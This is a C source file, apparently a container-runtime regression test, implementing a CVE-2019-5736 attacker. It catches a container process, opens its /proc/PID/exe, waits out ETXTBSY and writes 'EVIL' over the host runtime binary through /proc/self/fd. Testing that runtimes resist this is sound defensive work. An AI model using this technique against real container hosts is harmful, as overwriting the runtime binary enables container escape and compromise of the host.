/* SPDX-License-Identifier: Apache-2.0 */
/*
 * CVE-2019-5736 attacker (BinaryCloneTests), static, so it runs whatever the image's loader is.
 *
 *   attack catch SCRIPT RESULT [HOLD]  waits for a process of the container that runs SCRIPT (a
 *                                      "#!INTERPRETER" script: SCRIPT is among its arguments) and
 *                                      opens its /proc/PID/exe read-only: the interpreter's binary
 *   attack pid PID RESULT [HOLD]       opens /proc/PID/exe read-only
 *
 * The entry scripts hold their interpreter, a runtime binary, by naming a FIFO as its --log: the
 * runtime blocks opening the log until someone opens HOLD for reading. With HOLD given, the attacker
 * does that once it has the binary open (so the process is caught for certain before it can exit),
 * and reads HOLD to its end: the runtime logs its complaint about the script and exits. Then it waits
 * until nothing executes the binary any more (ETXTBSY) and writes it through /proc/self/fd/N.
 * RESULT.caught says "caught PID TARGET" as soon as the binary is open; RESULT gets the outcome,
 * "wrote OK TARGET" or "<step> <ERRNO> TARGET". Both are written to a temporary name and renamed.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void report(const char *out, const char *suffix, const char *line)
{
	char path[4096], tmp[4200];
	snprintf(path, sizeof path, "%s%s", out, suffix);
	snprintf(tmp, sizeof tmp, "%s.tmp", path);
	FILE *f = fopen(tmp, "w");
	if (f == NULL)
		return;
	fprintf(f, "%s\n", line);
	fclose(f);
	rename(tmp, path);
}

static void outcome(const char *out, const char *what, int err, const char *target)
{
	char line[2048];
	snprintf(line, sizeof line, "%s %s %s", what, err ? strerrorname_np(err) : "OK", target);
	report(out, "", line);
}

/* True when /proc/PID/cmdline has SCRIPT among its arguments (argv[0] is the interpreter). */
static int runs_script(int pid, const char *script)
{
	char path[64], buf[4096];
	snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	if (n <= 0)
		return 0;
	buf[n] = 0;
	for (char *arg = buf + strlen(buf) + 1; arg < buf + n; arg += strlen(arg) + 1)
		if (strcmp(arg, script) == 0)
			return 1;
	return 0;
}

/* Polls /proc until a process runs SCRIPT; returns its pid. */
static int find_script(const char *script)
{
	int self = getpid();
	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		if (d == NULL)
			return -1;
		while ((e = readdir(d)) != NULL) {
			int pid = atoi(e->d_name);
			if (pid > 0 && pid != self && runs_script(pid, script)) {
				closedir(d);
				return pid;
			}
		}
		closedir(d);
		usleep(1000);
	}
}

int main(int argc, char **argv)
{
	char path[64], target[1024] = "?", line[1200];
	const char *out, *hold;
	int pid, fd;

	if (argc < 4 || argc > 5)
		return 2;
	out = argv[3];
	hold = argc == 5 ? argv[4] : NULL;
	if (strcmp(argv[1], "catch") == 0)
		pid = find_script(argv[2]);
	else if (strcmp(argv[1], "pid") == 0)
		pid = atoi(argv[2]);
	else
		return 2;
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY);
	if (fd < 0) {
		outcome(out, "open-ro", errno, path);
		return 0;
	}
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	ssize_t n = readlink(path, target, sizeof target - 1);
	target[n > 0 ? n : 1] = 0;
	snprintf(line, sizeof line, "caught %d %s", pid, target);
	report(out, ".caught", line);

	if (hold != NULL) {
		char buf[512];
		int h = open(hold, O_RDONLY | O_CLOEXEC);
		if (h < 0) {
			outcome(out, "open-hold", errno, target);
			return 0;
		}
		while (read(h, buf, sizeof buf) > 0)
			;
		close(h);
	}

	for (int i = 0; i < 6000; i++) { /* up to 60 s */
		int w = open(path, O_WRONLY);
		if (w < 0 && errno == ETXTBSY) {
			usleep(10000);
			continue;
		}
		if (w < 0) {
			outcome(out, "open-wr", errno, target);
			return 0;
		}
		if (pwrite(w, "EVIL", 4, 0) != 4) {
			outcome(out, "write", errno, target);
			return 0;
		}
		outcome(out, "wrote", 0, target);
		return 0;
	}
	outcome(out, "open-wr", ETXTBSY, target);
	return 0;
}
